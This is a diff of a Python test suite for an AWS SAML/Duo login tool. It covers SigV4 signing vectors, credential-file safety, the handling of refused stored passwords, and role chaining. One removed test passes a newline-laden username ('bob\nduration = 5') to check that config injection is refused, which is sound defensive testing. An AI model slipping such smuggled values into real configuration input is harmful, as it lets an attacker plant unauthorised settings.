+        'creq': 'POST\n/\n\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n553f88c9e4d10fc9e109e2aeb65f030801b70c2f6468faca261d401ae622fc87',
+        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=5da7c1a2acd57cee7505fc6676e4e544621c30862966e37dddb68e92efbe5d6b',
+    },
+    'post-vanilla-query': {
+        'req': 'POST /?Param1=value1 HTTP/1.1\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z',
+        'creq': 'POST\n/\nParam1=value1\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\nhost;x-amz-date\ne3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855',
+        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n9d659678c1756bb3113e2ce898845a0a79dbbc57b740555917687f1b3340fbbd',
+        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=host;x-amz-date, Signature=28038455d6de14eafc1f9222cf5aa6f1a96197d7deb8263271d420d138af7f11',
+    },
+    'post-x-www-form-urlencoded': {
+        'req': 'POST / HTTP/1.1\nContent-Type:application/x-www-form-urlencoded\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z\n\nParam1=value1',
+        'creq': 'POST\n/\n\ncontent-type:application/x-www-form-urlencoded\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\ncontent-type;host;x-amz-date\n9095672bbd1f56dfc5b65f3e153adc8731a4a654192329106275f4c7b24d0b6e',
+        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n42a5e5bb34198acb3e84da4f085bb7927f2bc277ca766e6d19c73c2154021281',
+        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=ff11897932ad3f4e8b18135d722051e5ac45fc38421b1da7b9d196a0fe09473a',
+    },
+    'post-x-www-form-urlencoded-parameters': {
+        'req': 'POST / HTTP/1.1\nContent-Type:application/x-www-form-urlencoded; charset=utf8\nHost:example.amazonaws.com\nX-Amz-Date:20150830T123600Z\n\nParam1=value1',
+        'creq': 'POST\n/\n\ncontent-type:application/x-www-form-urlencoded; charset=utf8\nhost:example.amazonaws.com\nx-amz-date:20150830T123600Z\n\ncontent-type;host;x-amz-date\n9095672bbd1f56dfc5b65f3e153adc8731a4a654192329106275f4c7b24d0b6e',
+        'sts': 'AWS4-HMAC-SHA256\n20150830T123600Z\n20150830/us-east-1/service/aws4_request\n2e1cf7ed91881a30569e46552437e4156c823447bf1781b921b5d486c568dd1c',
+        'authz': 'AWS4-HMAC-SHA256 Credential=AKIDEXAMPLE/20150830/us-east-1/service/aws4_request, SignedHeaders=content-type;host;x-amz-date, Signature=1a72ec8f64bd914b0e42e42607c7fbce7fb2c7465f63e3092b3b0d39fa77a6fe',
+    },
+}
+
+
+def _parse_suite_request(text):
+    """(method, path, headers, body) from a suite's .req file."""
+    head, _, body = text.partition("\n\n")
+    lines = head.split("\n")
+    method, rest = lines[0].split(" ", 1)
+    path = rest.rsplit(" ", 1)[0]
+    headers = {}
+    for line in lines[1:]:
+        name, _, value = line.partition(":")
+        headers.setdefault(name, []).append(value)
+    return method, path, dict((k, ",".join(v)) for k, v in headers.items()), body.encode()
+
+
+class SigV4SuiteTest(unittest.TestCase):
+    KEY = aws_login.Credentials("AKIDEXAMPLE", "wJalrXUtnFEMI/K7MDENG+bPxRfiCYEXAMPLEKEY",
+                                None, None)
+    WHEN = datetime.datetime(2015, 8, 30, 12, 36, 0, tzinfo=datetime.timezone.utc)
+
+    def test_every_case_of_the_official_suite(self):
+        self.assertEqual(len(SIGV4_SUITE), 16)
+        for name, case in sorted(SIGV4_SUITE.items()):
+            method, path, headers, body = _parse_suite_request(case["req"])
+            credentials = self.KEY
+            if name == "get-vanilla-with-session-token":
+                credentials = aws_login.Credentials(
+                    self.KEY.access_key_id, self.KEY.secret_access_key,
+                    "6e86291e8372ff2a2260956d9b8aae1d763fbf315fa00fa31553b73ebf194267", None)
+            if "X-Amz-Security-Token" in headers:         # post-sts-header-before
+                credentials = aws_login.Credentials(
+                    self.KEY.access_key_id, self.KEY.secret_access_key,
+                    headers.pop("X-Amz-Security-Token"), None)
+            headers.pop("X-Amz-Date")
+            url = "https://" + headers["Host"] + path
+            signed = aws_login.sign_request(method, url, headers, body, credentials,
+                                            "us-east-1", "service", self.WHEN)
+            canonical, _ = aws_login.canonical_request(
+                method, url, dict((k, v) for k, v in signed.items() if k != "Authorization"),
+                body)
+            self.assertEqual(canonical, case["creq"], name)
+            self.assertEqual(aws_login.string_to_sign(
+                "20150830T123600Z", "20150830/us-east-1/service/aws4_request", canonical),
+                case["sts"], name)
+            self.assertEqual(signed["Authorization"], case["authz"], name)
+            self.assertEqual(signed["X-Amz-Date"], "20150830T123600Z")
+
+
+# ---------------------------------------------------------------------------
+# Credential store
+# ---------------------------------------------------------------------------
+
+class CredentialStoreTest(HomeTestCase):
+    def test_mode_is_0600_whatever_the_umask(self):
+        old = os.umask(0)
+        try:
+            aws_login.write_credentials("p", _fake_credentials(), ADMIN)
+        finally:
+            os.umask(old)
+        self.assertEqual(os.stat(self.credentials_file).st_mode & 0o777, 0o600)
+        self.write(self.credentials_file, "[x]\nk = v\n", mode=0o644)
+        aws_login.write_credentials("p", _fake_credentials(), ADMIN)
+        self.assertEqual(os.stat(self.credentials_file).st_mode & 0o777, 0o600)
+
+    def test_symlinked_file_is_followed_and_stays_a_link(self):
+        target = os.path.join(self.home, "dotfiles", "aws-credentials")
+        self.write(target, "[other]\nk = v\n")
+        os.makedirs(os.path.dirname(self.credentials_file))
+        os.symlink(target, self.credentials_file)
+        aws_login.write_credentials("p", _fake_credentials(), ADMIN)
+        self.assertTrue(os.path.islink(self.credentials_file))
+        self.assertIn("[p]", self.read(target))
+        self.assertTrue(self.read(target).startswith("[other]\nk = v\n"))
+
+    def test_login_then_logout_is_byte_identical(self):
+        original = ("# comment\r\n[default]\r\naws_access_key_id=AKIA1\r\n"
+                    "aws_secret_access_key =x\r\n\r\n[z]  \r\nk:v")
+        self.write(self.credentials_file, original)
+        aws_login.write_credentials("p", _fake_credentials(), ADMIN)
+        aws_login.write_credentials("p", _fake_credentials(1), ADMIN)
+        self.assertEqual(aws_login.remove_credentials("p"), ["p"])
+        self.assertEqual(self.read(self.credentials_file), original)
+
+    def test_processes_writing_different_profiles_at_once_lose_nothing(self):
+        code = ("import sys; sys.path.insert(0, %r); import aws_login, datetime\n"
+                "for i in range(15):\n"
+                "    aws_login.write_credentials(sys.argv[1], aws_login.Credentials("
+                "'ASIA' + sys.argv[1], 's', 't%%d' %% i, datetime.datetime(2030, 1, 1, "
+                "tzinfo=datetime.timezone.utc)), %r)\n" % (HERE, ADMIN))
+        procs = [subprocess.Popen([sys.executable, "-c", code, "p%d" % i], env=os.environ)
+                 for i in range(8)]
+        self.assertEqual([p.wait() for p in procs], [0] * 8)
+        for i in range(8):
+            self.assertEqual(self.credentials("p%d" % i)["aws_session_token"], "t14")
+        self.assertEqual([n for n in os.listdir(os.path.dirname(self.credentials_file))],
+                         ["credentials"])       # no temp or lock files left behind
+
+    def test_unparseable_file_is_left_alone(self):
+        self.write(self.credentials_file, "no section header\nk = v\n")
+        self.assertRaises(aws_login.CredentialsFileError, aws_login.write_credentials, "p",
+                          _fake_credentials(), ADMIN)
+        self.assertEqual(self.read(self.credentials_file), "no section header\nk = v\n")
+
+    def test_records_have_names(self):
+        entry = aws_login.CacheEntry(5, ADMIN, "{}")
+        self.assertEqual((entry.expires, entry.role_arn, entry.json), (5, ADMIN, "{}"))
+        self.assertEqual(entry, (5, ADMIN, "{}"))
+        self.assertEqual(repr(entry), "CacheEntry(expires=5, role_arn=%r, json='{}')" % ADMIN)
+        aws_login.write_cache("default", _fake_credentials(2), ADMIN)
+        cached = aws_login.read_cache("default")
+        self.assertEqual(cached.role_arn, ADMIN)
+        self.assertEqual(json.loads(cached.json)["AccessKeyId"],
+                         _fake_credentials(2).access_key_id)
+        spans = aws_login._sections(aws_login._lines("[a]\nk = v\n\n[b]\n[a]\n"), "a")
+        self.assertEqual([(s.header, s.last, s.end) for s in spans], [(0, 2, 3), (4, 5, 5)])
+
+
+# ---------------------------------------------------------------------------
+# IdP session (cookie jar) and keyring
+# ---------------------------------------------------------------------------
+
 class IdPSessionTest(LoginTestCase):
     def test_a_login_reusing_the_session_imports_only_what_it_needs(self):
         self.configure(username="alice", factor="auto", password=PASSWORD)
@@ -2302,6 +4066,13 @@ class IdPSessionTest(LoginTestCase):
         self.assertEqual(os.listdir(os.path.join(self.home, ".aws-login", "cookies")), [])
         self.assert_logged_in(self.tool(["login"], [("Password: ", PASSWORD)]))
 
+    def test_a_cookie_jar_that_cannot_be_saved_only_warns(self):
+        self.write(os.path.join(self.home, ".aws-login", "cookies"), "not a directory")
+        self.configure(username="alice", factor="auto", password=PASSWORD)
+        run = self.tool(["login"], terminal=False)
+        self.assert_logged_in(run)
+        self.assertIn("cannot save the IdP session", run.stderr)
+
 
 class KeyringTest(LoginTestCase):
     def setUp(self):
@@ -2345,50 +4116,234 @@ class KeyringTest(LoginTestCase):
         self.assertEqual(aws_login.parse_role_value(self.idp.users["alice"]["roles"][0]), role)
 
 
-class EcpWireTest(LoginTestCase):
-    def test_bytes_sent_to_sts_are_the_idps_response_plus_inherited_namespaces(self):
-        for style in ("odd", "plain"):
-            self.idp.prefix_style = style
-            self.configure(username="alice", factor="auto", password=PASSWORD)
-            self.assert_logged_in(self.tool(["login"], terminal=False))
-            sent = base64.b64decode(self.sts.requests[-1]["form"]["SAMLAssertion"])
-            original = self.idp.last_response_bytes
-            self.assertIsNone(response_bytes_problem(sent, original,
-                                                     self.idp.last_inherited_ns), style)
-            # exactly: the original start tag name, our declarations, the rest untouched
-            head = original.split(b" ", 1)[0].split(b"\t", 1)[0].split(b"\n", 1)[0]
-            self.assertTrue(sent.startswith(head))
-            self.assertTrue(sent.endswith(original[len(head):]))
-            added = sent[len(head):len(sent) - len(original) + len(head)].decode()
-            expected = "".join(' xmlns:%s="%s"' % kv for kv in sorted(
-                self.idp.last_inherited_ns.items()))
-            self.assertEqual(added, expected)
-            aws_login.logout("default")
+class RefusedPasswordTest(LoginTestCase):
+    """A stored password the IdP refused is sent once, never again without a person."""
 
-    def test_duration_configured_or_from_the_assertion(self):
-        self.configure(username="alice", factor="auto", password=PASSWORD, duration="7200")
-        self.assert_logged_in(self.tool(["login"], terminal=False))
-        self.assertEqual(self.sts.requests[-1]["form"]["DurationSeconds"], "7200")
-        self.idp.users["alice"]["session_duration"] = 1800
-        self.configure(username="alice", factor="auto", password=PASSWORD, duration=None)
-        self.assert_logged_in(self.tool(["login"], terminal=False))
-        self.assertEqual(self.sts.requests[-1]["form"]["DurationSeconds"], "1800")
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        self.keyring = FakeKeyring(self.home)
+        os.environ.update(self.keyring.env())
+        self.user = "alice@" + self.idp.host_port
+        self.refused = os.path.join(self.home, ".aws-login", "refused")
+        self.write(os.environ["AWS_CONFIG_FILE"], "")
 
-    def test_moto_style_microsecond_expiration(self):
-        self.sts.microseconds = True
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-        self.assert_logged_in(self.tool(["login"], terminal=False))
-        self.assertRegex(self.credentials()["aws_login_expiration"],
-                         r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ$")
+    def process_mode(self, **options):
+        self.configure(username="alice", factor="auto", **options)
+        run = self.tool(["configure", "--credential-process"], terminal=False)
+        self.assertEqual(run.code, 0, run)
 
-    def test_plain_http_idp_on_loopback_is_allowed(self):
-        idp = FakeIdP(tls=False).start()
-        self.addCleanup(idp.stop)
-        idp.users = self.idp.users
-        self.configure(ecp_endpoint_url=idp.url, username="alice", factor="auto",
-                       password=PASSWORD)
-        self.assert_logged_in(self.tool(["login"], terminal=False))
+    def serve(self, terminal=False, answers=()):
+        """credential_process as botocore runs it (see CredentialProcessTest.serve)."""
+        import configparser
+        import shlex
+        parser = configparser.RawConfigParser()
+        parser.read_string(self.read(os.environ["AWS_CONFIG_FILE"]))
+        command = shlex.split(parser.get("default", "credential_process"))
+        return run_tool(command[1:], answers, env=dict(os.environ), terminal=terminal,
+                        argv_prefix=command[:1])
 
+    def passwords_sent(self):
+        return [_parse_basic(r["authorization"])[1] for r in self.idp.requests
+                if r["authorization"]]
+
+    def assert_refused_in_one_line(self, run, where):
+        self.assertEqual((run.code, run.stdout), (11, ""), run)
+        lines = run.stderr.strip().splitlines()
+        self.assertEqual(len(lines), 1, run.stderr)
+        self.assertRegex(lines[0], r"^aws_login: error: the IdP refused the password stored "
+                                   r"in %s( earlier)?, so it is not sent again until you log "
+                                   r"in .*: run `python3 \S*aws_login.py login`"
+                                   r"(; the IdP refused .*)?$" % where)
+
+    def assert_renews_without_a_person(self, password):
+        """The IdP session ended and the cache is short: the stored password is used."""
+        self.idp.expire_sessions()
+        sent = len(self.passwords_sent())
+        run = self.serve()
+        self.assertEqual(run.code, 0, run)
+        self.assertEqual(json.loads(run.stdout)["AccessKeyId"], self.sts.issued[-1]["AccessKeyId"])
+        self.assertEqual(self.passwords_sent()[sent:], [password])
+
+    def test_keyring_password_refused_once_then_a_login_asks(self):
+        self.keyring.set(self.user, "old password")
+        self.process_mode(enable_keyring="true")
+        runs = [self.serve() for _ in range(6)] + [self.tool(["login"], terminal=False)]
+        for run in runs:
+            self.assert_refused_in_one_line(run, "the keyring")
+        self.assertIn("in the keyring, so it is not sent again", runs[0].stderr)
+        self.assertTrue(runs[0].stderr.endswith(
+            "login`; the IdP refused the login (Responder/AuthnFailed: WRONGUSERPASS)\n"),
+            runs[0].stderr)
+        for run in runs[1:]:
+            self.assertIn("in the keyring earlier, so", run.stderr)
+        self.assertEqual(self.passwords_sent(), ["old password"])
+        mark = os.path.join(self.refused, "default.keyring")
+        self.assertEqual(os.stat(mark).st_mode & 0o777, 0o600)
+        self.assertEqual(os.stat(self.refused).st_mode & 0o777, 0o700)
+        self.assertEqual(self.read(mark), aws_login.REFUSED_HEADER + "\nuser %s\n" % self.user)
+        self.sts.clock = lambda: time.time() - 3600 + 14 * 60   # the cache wants renewing
+        run = self.tool(["login"], [("Password: ", PASSWORD)])
+        self.assertEqual(run.code, 0, run)
+        self.assertIn("refused the password stored in the keyring earlier", run.stderr)
+        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
+        self.assertFalse(os.path.exists(mark))
+        self.assertEqual(self.keyring.items()["awscli_login " + self.user], PASSWORD)
+        self.assert_renews_without_a_person(PASSWORD)
+
+    def test_profile_password_refused_once_then_a_login_asks(self):
+        self.process_mode(password="old password")
+        for _ in range(6):
+            self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
+        self.assertEqual(self.passwords_sent(), ["old password"])
+        mark = os.path.join(self.refused, "default.profile")
+        self.sts.clock = lambda: time.time() - 3600 + 14 * 60
+        run = self.tool(["login"], [("Password: ", PASSWORD)])
+        self.assertEqual(run.code, 0, run)
+        self.assertIn("refused the password stored in the settings of profile default "
+                      "earlier", run.stderr)
+        self.assertIn("still the one the IdP refused", run.stderr)
+        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
+        self.assertTrue(os.path.exists(mark))   # the settings still hold the refused one
+        self.assertEqual(self.serve().code, 0)  # the cache serves
+        self.idp.expire_sessions()
+        self.sts.clock = time.time
+        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
+        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
+        self.configure(username="alice", factor="auto", password=PASSWORD)   # a person fixes it
+        self.sts.clock = lambda: time.time() - 3600 + 14 * 60
+        self.assert_renews_without_a_person(PASSWORD)
+        self.assertFalse(aws_login.refused_earlier(
+            aws_login.read_profile("default"), "alice", "profile"))
+
+    def test_the_same_password_typed_again_lifts_the_mark(self):
+        self.process_mode(password="old password")
+        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
+        self.idp.users["alice"]["password"] = "old password"    # the IdP takes it again
+        self.sts.clock = lambda: time.time() - 3600 + 14 * 60
+        run = self.tool(["login"], [("Password: ", "old password")])
+        self.assertEqual(run.code, 0, run)
+        self.assertNotIn("still the one", run.stderr)
+        self.assertEqual(os.listdir(self.refused), [])
+        self.assert_renews_without_a_person("old password")
+
+    def test_a_mark_lapsing_and_refused_again_is_renewed(self):
+        self.process_mode(password="old password")
+        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
+        self.configure(username="alice", factor="auto", password="older password")
+        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
+        self.assert_refused_in_one_line(self.serve(), "the settings of profile default")
+        self.assertEqual(self.passwords_sent(), ["old password", "older password"])
+
+    def test_credential_process_on_a_terminal_asks_instead_of_resending(self):
+        self.keyring.set(self.user, "old password")
+        self.process_mode(enable_keyring="true")
+        self.assert_refused_in_one_line(self.serve(), "the keyring")
+        run = self.serve(terminal=True, answers=[("Password: ", PASSWORD)])
+        self.assertEqual(run.code, 0, run)
+        self.assertIn("needs you to log in again (the IdP refused the password stored in "
+                      "the keyring earlier", run.tty)
+        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
+        self.assertEqual(os.listdir(self.refused), [])
+        self.assertNotIn(PASSWORD, run.stdout + run.stderr + run.tty)
+
+    def test_password_stdin_lifts_the_keyring_mark(self):
+        self.keyring.set(self.user, "old password")
+        self.process_mode(enable_keyring="true")
+        self.assert_refused_in_one_line(self.serve(), "the keyring")
+        run = self.tool(["login", "--password-stdin"], stdin=(PASSWORD + "\n").encode(),
+                        terminal=False)
+        self.assertEqual(run.code, 0, run)
+        self.assertEqual(os.listdir(self.refused), [])
+        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
+
+    def in_process_keyring(self, password):
+        return in_process_keyring(self, {("awscli_login", self.user): password})
+
+    def test_python_api_raises_and_sends_nothing_after_the_mark(self):
+        store = self.in_process_keyring("old password")
+        self.configure(username="alice", factor="auto", enable_keyring="true")
+        for _ in range(3):
+            with self.assertRaisesRegex(aws_login.InteractionRequired,
+                                        "refused the password stored in the keyring"):
+                aws_login.get_credentials()
+        self.assertEqual(len(self.idp.requests), 1)
+        credentials = aws_login.get_credentials(password=PASSWORD)
+        self.assertEqual(credentials.access_key_id, self.sts.issued[-1]["AccessKeyId"])
+        self.assertEqual(store[("awscli_login", self.user)], PASSWORD)
+        self.assertEqual(os.listdir(self.refused), [])
+        self.idp.expire_sessions()
+        aws_login.get_credentials()
+        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD, PASSWORD])
+
+    def test_the_mark_is_for_that_user_at_that_idp(self):
+        store = self.in_process_keyring("old password")
+        store[("awscli_login", "bob@" + self.idp.host_port)] = "bob-pass"
+        self.configure(username="alice", factor="auto", enable_keyring="true")
+        with self.assertRaises(aws_login.InteractionRequired):
+            aws_login.get_credentials()
+        self.configure(username="bob", factor="auto", enable_keyring="true",
+                       role_arn=ADMIN)
+        self.assertEqual(aws_login.get_credentials().access_key_id,
+                         self.sts.issued[-1]["AccessKeyId"])
+        self.assertEqual(self.passwords_sent(), ["old password", "bob-pass"])
+
+    def test_a_keyring_that_cannot_store_keeps_the_mark(self):
+        store = self.in_process_keyring("old password")
+
+        def refuse(service, user, password):
+            raise RuntimeError("locked keyring")
+        sys.modules["keyring"].set_password = staticmethod(refuse)
+        self.configure(username="alice", factor="auto", enable_keyring="true")
+        with self.assertRaises(aws_login.InteractionRequired):
+            aws_login.get_credentials()
+        said = io.StringIO()
+        import contextlib
+        with contextlib.redirect_stderr(said):
+            aws_login.get_credentials(password=PASSWORD)
+        self.assertIn("cannot store the password in the keyring", said.getvalue())
+        self.assertEqual(store[("awscli_login", self.user)], "old password")
+        self.idp.expire_sessions()
+        with self.assertRaises(aws_login.InteractionRequired):
+            aws_login.get_credentials()
+        self.assertEqual(self.passwords_sent(), ["old password", PASSWORD])
+
+    def test_refresher_stops_and_logs_a_refused_renewal(self):
+        self.configure(username="alice", factor="auto")
+        self.assert_logged_in(self.tool(["login"], [("Password: ", PASSWORD)]))
+        expires = aws_login.parse_timestamp(self.credentials()["aws_login_expiration"])
+        self.in_process_keyring("old password")
+        self.configure(username="alice", factor="auto", enable_keyring="true")
+        self.idp.expire_sessions()
+        for _ in range(2):
+            lines = []
+            refresher = aws_login.Refresher("default", ADMIN, time.time(),
+                                            expires.timestamp(), log=lines.append)
+            refresher.next_at = time.time()
+            self.assertIsNone(refresher.step())
+            self.assertRegex(lines[-1], r"^cannot renew: the IdP refused the password stored "
+                                        r"in the keyring.*; stopping")
+        self.assertEqual(self.passwords_sent(), [PASSWORD, "old password"])
+        self.assertEqual(len(self.sts.requests), 1)
+
+    def test_a_duo_timeout_or_a_network_failure_marks_nothing(self):
+        self.in_process_keyring(PASSWORD)
+        self.configure(username="alice", factor="push", enable_keyring="true")
+        real = aws_login.http_request
+        aws_login.http_request = lambda *a, **kw: real(*a, **dict(kw, read_timeout=0.5))
+        self.addCleanup(setattr, aws_login, "http_request", real)
+        self.idp.delay = 5          # the push is never approved
+        with self.assertRaises(aws_login.AuthenticationError) as caught:
+            aws_login.get_credentials()
+        self.assertEqual(caught.exception.kind, "timeout")
+        self.idp.stop()
+        with self.assertRaises(aws_login.NetworkError):
+            aws_login.get_credentials()
+        self.assertFalse(os.path.exists(self.refused) and os.listdir(self.refused))
+
+
+# ---------------------------------------------------------------------------
+# Fetching credentials: IdP (saved session, else password and Duo), role, STS
+# ---------------------------------------------------------------------------
 
 class FailureTest(LoginTestCase):
     BEFORE = "# keep me\r\n[work]\r\naws_access_key_id = AKIAWORK\r\naws_secret_access_key = w\r\n"
@@ -2507,46 +4462,8 @@ class FailureTest(LoginTestCase):
                          run.stderr)
 
 
-class ReviewFixesTest(LoginTestCase):
-    """Holes a review found: each test fails on the code before its fix."""
-
-    def test_plain_http_never_goes_through_a_proxy(self):
-        seen = []
-        proxy = socket.socket()
-        proxy.bind(("127.0.0.1", 0))
-        proxy.listen(5)
-        proxy.settimeout(0.2)
-        self.addCleanup(proxy.close)
-
-        def record():
-            while True:
-                try:
-                    conn, _ = proxy.accept()
-                except socket.timeout:
-                    continue
-                except OSError:
-                    return
-                seen.append(conn.recv(65536))
-                conn.close()
-        thread = threading.Thread(target=record)
-        thread.daemon = True
-        thread.start()
-        idp = FakeIdP(tls=False).start()
-        self.addCleanup(idp.stop)
-        idp.users = self.idp.users
-        self.configure(ecp_endpoint_url=idp.url, username="alice", factor="auto",
-                       password=PASSWORD)
-        url = "http://127.0.0.1:%d" % proxy.getsockname()[1]
-        self.assert_logged_in(self.tool(["login"], terminal=False, env={
-            "http_proxy": url, "HTTP_PROXY": url, "no_proxy": "", "NO_PROXY": ""}))
-        self.assertEqual(seen, [])
-
-    def test_a_cookie_jar_that_cannot_be_saved_only_warns(self):
-        self.write(os.path.join(self.home, ".aws-login", "cookies"), "not a directory")
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-        run = self.tool(["login"], terminal=False)
-        self.assert_logged_in(run)
-        self.assertIn("cannot save the IdP session", run.stderr)
+class FetchingTest(LoginTestCase):
+    """What the STS call is built from: the region, the partition, the session name."""
 
     def test_region_from_the_environment_is_checked(self):
         self.configure(username="alice", factor="auto", password=PASSWORD)
@@ -2563,285 +4480,652 @@ class ReviewFixesTest(LoginTestCase):
         self.assertEqual(aws_login.profile_partition(p), "aws-us-gov")
         self.assertEqual(aws_login.profile_partition(p, ADMIN), "aws")
 
-    def test_urls_carry_no_userinfo(self):
-        self.assertRaises(aws_login.ConfigError, aws_login.check_url,
-                          "https://alice:secret@idp.example.edu/ecp")
+    def test_session_names_are_cleaned_for_sts(self):
+        clean = aws_login._session_name
+        self.assertEqual(clean("alice"), "alice")
+        self.assertEqual(clean("jos\u00e9 m\u00fcller/x"), "jos--m-ller-x")
+        self.assertEqual(clean("a" * 100), "a" * 64)
+        self.assertEqual(clean("x"), "aws_login")
+        self.assertEqual(clean(None), "aws_login")
+        self.assertEqual(clean("a=b,c.d@e-f+g_h"), "a=b,c.d@e-f+g_h")
 
-    def test_ecp_response_without_acs_url_is_refused(self):
-        def answer(handler):
-            request_id, acs = self.idp._parse_authn_request(handler.body)
-            envelope = build_success_envelope(request_id, acs, [ADMIN + "," + PROVIDER_A])[0]
-            header_end = envelope.index(b"Body")
-            head = re.sub(br'AssertionConsumerServiceURL="[^"]*"', b"", envelope[:header_end])
-            return (200, {"Content-Type": "text/xml"}, head + envelope[header_end:])
-        self.idp.override = answer
-        self.configure(username="alice", factor="auto", password=PASSWORD)
-        run = self.tool(["login"], terminal=False)
-        self.assert_nothing_written(run, 5)
-        self.assertEqual(self.sts.requests, [])
 
-    def test_configure_refuses_line_breaks_and_can_fix_a_bad_value(self):
-        self.configure(ecp_endpoint_url="http://idp.example.edu/ecp")
-        run = self.tool(["configure", "--username", "bob\nduration = 5"], terminal=False)
-        self.assertEqual(run.code, 3, run)
-        run = self.tool(["configure", "--ecp-endpoint-url", self.idp.url], terminal=False)
+class ChainingTest(LoginTestCase):
+    TARGET = "arn:aws:iam::%s:role/Deploy" % ACCOUNT_B
+
+    def setUp(self):
+        LoginTestCase.setUp(self)
+        self.sts.external_ids[self.TARGET] = "ext-42"
+
+    def test_login_chains_into_the_configured_role(self):
+        self.configure(username="bob", factor="auto", password="bob-pass",
+                       chain_role_arn=self.TARGET, chain_external_id="ext-42")
+        run = self.tool(["login"], [("Selection: ", "0")])
         self.assertEqual(run.code, 0, run)
-        self.assertEqual(aws_login.read_profile("default").ecp_endpoint_url, self.idp.url)
+        self.assertIn("    (then, through it, %s)" % self.TARGET, run.tty)
+        self.assertIn("Logged in as Deploy in account %s through Admin (account %s)"
+                      % (ACCOUNT_B, ACCOUNT_A), run.stderr)
+        chained = self.sts.issued[-1]
+        self.assertTrue(chained["SessionToken"].startswith("FwoChained"))
+        section = self.credentials()
+        self.assertEqual(section["aws_access_key_id"], chained["AccessKeyId"])
+        self.assertEqual((section["aws_login_role_arn"], section["aws_login_chained_role_arn"]),
+                         (ADMIN, self.TARGET))
+        form = self.sts.requests[-1]["form"]
+        self.assertEqual((form["Action"], form["RoleArn"], form["ExternalId"],
+                          form["RoleSessionName"], form["DurationSeconds"]),
+                         ("AssumeRole", self.TARGET, "ext-42", "bob", "3600"))
+        whoami = json.loads(self.tool(["whoami", "--output", "json"], terminal=False).stdout)
+        self.assertEqual(whoami["Arn"], "arn:aws:sts::%s:assumed-role/Deploy/bob" % ACCOUNT_B)
 
-    def test_default_in_capitals_is_reserved(self):
-        run = self.tool(["--profile", "DEFAULT", "configure", "--username", "x"], terminal=False)
-        self.assertEqual(run.code, 2, run)
-        self.assertIn("reserved", run.stderr)
+    def test_wrong_external_id_is_sts_access_denied(self):
+        self.configure(username="alice", factor="auto", password=PASSWORD,
+                       chain_role_arn=self.TARGET, chain_external_id="nope")
+        run = self.tool(["login"], terminal=False)
+        self.assert_nothing_written(run, 7)
+        self.assertIn("AccessDenied", run.stderr)
 
-    def test_odd_menu_and_factor_answers_are_asked_again(self):
-        self.configure(username="bob")
-        run = self.tool(["login"], [("Password: ", "bob-pass"), ("Factor: ", "yubikey"),
-                                    ("Factor: ", "push"), ("Selection: ", "\u00b2"),
-                                    ("Selection: ", "1")])
+    def test_refresher_and_credential_process_chain_too(self):
+        self.configure(username="alice", factor="auto", password=PASSWORD,
+                       chain_role_arn=self.TARGET, chain_external_id="ext-42")
+        self.assertEqual(self.tool(["login"], terminal=False).code, 0)
+        refresher = aws_login.Refresher("default", ADMIN, 0, 1)
+        self.assertIsNotNone(refresher.step())
+        self.assertEqual(self.credentials()["aws_access_key_id"],
+                         self.sts.issued[-1]["AccessKeyId"])
+        self.assertEqual(self.sts.requests[-1]["form"]["Action"], "AssumeRole")
+        self.assertEqual(self.tool(["configure", "--credential-process"], terminal=False).code, 0)
+        data = json.loads(self.tool(["credential-process"], terminal=False).stdout)
+        self.assertEqual(data["AccessKeyId"], self.sts.issued[-1]["AccessKeyId"])
+        self.assertTrue(data["SessionToken"].startswith("FwoChained"))
+
+    def test_a_chained_role_refused_gets_its_own_advice(self):
+        advice = aws_login._sts_advice("AccessDenied", "not authorized", "AssumeRole")
+        self.assertIn("chain_external_id", advice)
+        self.assertIn("trust policy", advice)
+        self.assertNotEqual(advice, aws_login._sts_advice("AccessDenied", "x",
+                                                          "AssumeRoleWithSAML"))
+
+
+class AliasTest(LoginTestCase):
+    def test_menu_shows_account_names(self):
+        self.write(os.path.join(self.home, ".aws-login", "alias"),
+                   "[accounts]\n%s = prod\n" % ACCOUNT_A)
+        self.configure(username="bob", factor="auto", password="bob-pass")
+        run = self.tool(["login"], [("Selection: ", "2")])
+        self.assertIn("    Account: prod (%s)\r\n" % ACCOUNT_A, run.tty)
+        self.assertIn("    Account: %s\r\n" % ACCOUNT_B, run.tty)
+
+
+ADMIN_B = "arn:aws:iam::%s:role/Admin" % ACCOUNT_B
+
+
+class RoleNameTest(unittest.TestCase):
+    ROLES = [aws_login.Role(ADMIN, PROVIDER_A), aws_login.Role(DEV, PROVIDER_A),
+             aws_login.Role(READONLY, PROVIDER_B), aws_login.Role(ADMIN_B, PROVIDER_B)]
+    ALIASES = {ACCOUNT_A: "prod", ACCOUNT_B: "Staging"}
+
+    def match(self, wanted):
